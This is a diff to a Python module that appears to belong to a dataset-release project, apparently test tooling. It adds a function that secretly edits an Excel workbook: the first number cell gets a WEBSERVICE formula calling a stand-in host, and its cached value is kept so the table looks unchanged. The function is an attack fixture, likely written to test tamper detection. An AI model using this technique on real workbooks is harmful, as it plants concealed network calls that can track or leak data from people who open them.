@@ -145,3 +145,19 @@ def releases_ready_for_a_new_version(root: Path) -> str:
         pin = sha256_file(root / "dataset" / newest_version(root) / "manifest.json")
         newest = newest.replace("\n  status: published\n", f"\n  status: published\n  manifest_sha256: {pin}\n", 1)
     return head + sep + newest
+
+
+def formula_put_in(workbook: Path) -> None:
+    """A hostile edit of a workbook: its first number cell given a formula whose cached value is the cell's own (a
+    reader of values sees the same table; the formula runs when the workbook is opened). Rewritten in place."""
+    import re
+    import zipfile
+
+    cell = re.compile(rb'<c r="([A-Z]+[0-9]+)"><v>([^<]*)</v></c>')
+    with zipfile.ZipFile(workbook) as archive:
+        parts = [(info, archive.read(info.filename)) for info in archive.infolist()]
+    sheet = next(info.filename for info, data in parts if info.filename.startswith("xl/worksheets/") and cell.search(data))
+    with zipfile.ZipFile(workbook, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info, data in parts:
+            archive.writestr(info, cell.sub(rb'<c r="\1"><f>\2+0*LEN(WEBSERVICE("http://example.invalid/"))</f><v>\2</v></c>', data, count=1)
+                             if info.filename == sheet else data)
